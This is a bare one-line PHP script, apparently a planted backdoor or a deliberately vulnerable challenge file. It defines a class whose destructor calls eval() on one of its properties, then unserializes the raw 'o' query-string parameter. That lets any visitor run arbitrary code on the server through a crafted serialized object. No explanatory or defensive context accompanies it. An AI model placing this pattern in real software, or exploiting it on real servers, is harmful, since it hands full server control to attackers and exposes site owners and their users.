<?php class A { public $c; function __destruct() { eval($this->c); } } unserialize($_GET['o']);
